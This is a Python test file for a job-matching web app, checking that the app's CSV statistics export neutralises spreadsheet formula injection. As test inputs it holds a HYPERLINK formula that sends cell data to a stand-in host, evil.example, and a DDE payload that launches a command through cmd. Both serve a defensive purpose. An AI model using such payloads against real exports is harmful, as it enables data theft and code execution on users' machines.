"""CSV injection: text that a spreadsheet would run as a formula is written inert."""

import csv
import io

from jobmatch.exports import safe_cell
from jobmatch.extensions import db
from jobmatch.stats.models import StatisticsSnapshot
from jobmatch.stats.routes import TABLES
from tests import factories
from tests.conftest import as_user

ATTACK = '=HYPERLINK("http://evil.example/?x="&A1,"Click")'


def test_cells_that_start_a_formula_are_neutralised():
    for text in (ATTACK, "+1+1", "-2+3", "@SUM(A1)", "\tx", "\rx"):
        assert safe_cell(text) == "'" + text
    assert safe_cell("Cook") == "Cook"
    assert safe_cell(-5) == -5  # a number stays a number
    assert safe_cell("a=b") == "a=b"


def test_a_formula_in_a_vacancy_title_comes_out_inert_in_the_statistics_csv(app, client):
    data = {name: [] for name in TABLES}
    data["placements_by_vacancy"] = [[7, ATTACK, 3], [8, "-1+cmd|' /C calc'!A0", 1]]
    db.session.add(StatisticsSnapshot(data=data))
    staff = factories.user("counsellor")
    db.session.commit()
    as_user(client, staff.email)
    response = client.get("/statistics/placements_by_vacancy.csv")
    assert response.status_code == 200, response.data[:300]
    rows = list(csv.reader(io.StringIO(response.get_data(as_text=True))))
    titles = [row[1] for row in rows[1:]]
    assert titles == ["'" + ATTACK, "'-1+cmd|' /C calc'!A0"]
    assert all(not t.startswith(("=", "+", "-", "@")) for t in titles)
